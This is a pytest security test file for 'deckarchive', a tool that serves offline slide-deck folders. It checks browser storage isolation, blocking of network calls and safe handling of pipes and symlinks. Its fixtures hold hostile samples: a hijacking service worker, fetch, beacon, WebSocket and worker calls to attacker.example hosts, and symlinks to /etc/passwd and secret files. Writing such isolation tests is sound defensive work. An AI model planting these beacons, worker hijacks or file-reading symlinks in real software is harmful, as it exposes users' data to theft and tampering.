"""An offline folder that somebody else made, presented here."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from deckarchive import screenshots
from deckarchive.bundle import bundle
from deckarchive.errors import ArchiveError
from deckarchive.presenter import present
from deckarchive.rehearsal import rehearse
from deckarchive.server import DeadProxy, Server
from tests.browsers import SharedBrowser
from tests.firefox import BROWSERS, firefox
from tests.isolation.served import COPY, SERVERS, ask, free_port, offline_folder, served

WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => event.respondWith(new Response("HACKED")));
"""
PLANT = """async () => {
  localStorage.setItem("notes", "of this deck");
  indexedDB.open("planted");
  await (await caches.open("planted")).put("/talk.md", new Response("HACKED"));
  await navigator.serviceWorker.register("/sw.js");
  return (await navigator.serviceWorker.ready).active !== null;
}"""
STATE = """async () => ({
  stored: localStorage.getItem("notes"),
  databases: (await indexedDB.databases()).length,
  caches: (await caches.keys()).length,
  workers: (await navigator.serviceWorker.getRegistrations()).length,
  text: await (await fetch("/talk.md")).text(),
})"""
EMPTY = {"stored": None, "databases": 0, "caches": 0, "workers": 0}
NETWORK = """<!doctype html><title>Deck</title><body><p>A deck without a policy
<img src="http://img.attacker.example/"><script src="http://script.attacker.example/"></script>
<link rel="stylesheet" href="http://style.attacker.example/">
<iframe src="http://frame.attacker.example/"></iframe>
<iframe src="http://127.0.0.1:1/"></iframe><iframe src="frames/FRAME.html"></iframe>
<script>
(async () => {
  const quiet = (work) => work.catch(() => 0);
  await quiet(fetch("http://fetch.attacker.example/", { mode: "no-cors" }));
  navigator.sendBeacon("http://beacon.attacker.example/", "x");
  try { new WebSocket("ws://socket.attacker.example/"); } catch {}
  const text = 'fetch("http://worker.attacker.example/", { mode: "no-cors" })';
  new Worker(URL.createObjectURL(new Blob([text])));
  new Worker("worker.js");
  new SharedWorker("worker.js");
  await new Promise((done) => addEventListener("load", done));
  document.title = "tried";
})();
</script>"""
INNER = """<!doctype html><title>Frame</title><body>
<img src="http://inner.attacker.example/"><script>
fetch("http://inner-fetch.attacker.example/", { mode: "no-cors" }).catch(() => 0);
</script>"""


@pytest.fixture(scope="module", params=BROWSERS)
def browser(request: Any, shared_browser: SharedBrowser) -> Iterator[tuple[Any, DeadProxy]]:
    with DeadProxy() as witness:
        if request.param == "chromium":
            yield shared_browser.behind(witness.url), witness
            return
        with firefox(witness, playwright=shared_browser.playwright) as running:
            yield running, witness


def new_context(browser: Any) -> Any:
    return browser.new_context(
        color_scheme="null", reduced_motion="null", forced_colors="null", contrast="null"
    )


@pytest.mark.browser
@pytest.mark.parametrize("server", SERVERS)
def test_what_a_deck_keeps_in_the_browser_is_its_own(
    browser: tuple[Any, DeadProxy], server: str, tmp_path: Path
) -> None:
    """The same deck finds it again, the next deck at the same address finds nothing."""
    port = free_port()
    hostile = offline_folder(tmp_path / "hostile", **{"sw.js": WORKER})
    other = offline_folder(tmp_path / "other")
    context = new_context(browser[0])
    page = context.new_page()
    seen: list[dict[str, Any]] = []
    for folder, plants in ((hostile, True), (hostile, False), (other, False), (hostile, False)):
        with served(server, folder, tmp_path, port):
            page.goto(f"http://deck.localhost:{port}/")
            seen.append(page.evaluate(STATE))
            if plants:
                assert page.evaluate(PLANT)
            page.goto("about:blank")
    fresh, again, following, at_last = seen
    text = fresh.pop("text")
    assert text.startswith("# A talk")
    assert fresh == EMPTY
    assert again["stored"] == "of this deck"
    assert following == at_last == {**EMPTY, "text": text}
    assert again["text"] == text
    context.close()


@pytest.mark.browser
def test_a_page_without_a_policy_is_held_to_the_decks(
    browser: tuple[Any, DeadProxy], tmp_path: Path
) -> None:
    running, witness = browser
    worker = 'fetch("http://file-worker.attacker.example/", { mode: "no-cors" })'
    pages = {"index.html": NETWORK.replace("FRAME", COPY), f"frames/{COPY}.html": INNER}
    folder = offline_folder(tmp_path / "talk", **pages, **{"worker.js": worker})
    context = new_context(running)
    with Server(folder) as server:
        page = context.new_page()
        page.goto(server.url)
        page.wait_for_function("document.title === 'tried'")
        page.wait_for_timeout(1000)  # nothing is to come: there is no event to wait for
    left = [attempt.url for attempt in witness.attempts if "attacker" in attempt.url]
    assert left == []
    context.close()


@pytest.mark.parametrize("name", SERVERS)
def test_odd_files_of_a_folder_hang_nothing(name: str, tmp_path: Path) -> None:
    folder = offline_folder(tmp_path / "talk")
    with served(name, folder, tmp_path) as port:
        inside = folder if name == "present" else next((tmp_path / "unpacked-talk").iterdir())
        inside = inside if name == "present" else inside / "deck"
        (tmp_path / "secret.txt").write_text("secret")
        os.mkfifo(inside / "pipe.html")
        os.mkfifo(inside / "sites/demo.example/pipe")
        (inside / "device").symlink_to("/dev/zero")
        (inside / "sites/demo.example/device.txt").symlink_to("/dev/zero")
        (inside / "passwd.txt").symlink_to("/etc/passwd")
        (inside / "sites/demo.example/out.txt").symlink_to(tmp_path / "secret.txt")
        (inside / "away").symlink_to(tmp_path, target_is_directory=True)
        (inside / "sites/demo.example/loop").symlink_to(inside / "sites/demo.example/loop")
        began = time.monotonic()
        for path in (
            "/pipe.html", "/sites/demo.example/pipe", "/device", "/sites/demo.example/device.txt",
            "/passwd.txt", "/sites/demo.example/out.txt", "/away/secret.txt", "/away",
            "/away/", "/sites/demo.example/loop", "/sites/demo.example/loop/x",
        ):  # fmt: skip
            reply = ask(port, path)
            assert reply.status == 404, path
            assert b"secret" not in reply.body
        assert time.monotonic() - began < 10


@pytest.mark.parametrize("kind", ["pipe", "device", "poster", "list of posters"])
def test_what_a_folder_says_of_itself_is_bounded(kind: str, tmp_path: Path) -> None:
    folder = offline_folder(tmp_path / "talk")
    about = folder / "deckarchive.json"
    data = json.loads(about.read_text())
    target = {
        "id": "a",
        "kind": "iframe",
        "url": "https://a.example/",
        "best": "live",
        "state": "ok",
    }
    expected = "cannot be read"
    if kind in ("pipe", "device"):
        about.unlink()
        os.mkfifo(about) if kind == "pipe" else about.symlink_to("/dev/zero")
    elif kind == "poster":
        (tmp_path / "private.png").write_bytes(b"")
        (folder / "poster.png").symlink_to(tmp_path / "private.png")
        data["targets"] = [{**target, "posters": {"": "poster.png"}}]
        expected = "names a picture that is none of the folder's"
    else:
        data["targets"] = [{**target, "posters": ["x"]}]
        expected = "is not what deckarchive writes"
    if kind not in ("pipe", "device"):
        about.write_text(json.dumps(data))
    with ThreadPoolExecutor() as threads:  # where no test's browser has its event loop
        for opens in (present, rehearse, bundle):
            with pytest.raises(ArchiveError, match=expected):
                threads.submit(opens, folder).result(30)


def test_a_picture_that_is_a_pipe_is_none(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "poster.png")
    assert screenshots.read_screenshot(tmp_path / "poster.png") is None


def test_the_service_worker_is_always_the_programs_own(tmp_path: Path) -> None:
    folder = offline_folder(tmp_path / "talk", **{"sw.js": WORKER})
    with Server(folder) as server:
        for host in ("deck.localhost", f"{COPY}.deck.localhost", "127.0.0.1"):
            reply = ask(server.port, "/sw.js", "Service-Worker: script", host=host)
            assert reply.status == 200
            assert b"HACKED" not in reply.body
            assert b"__deckarchive_lookup" in reply.body
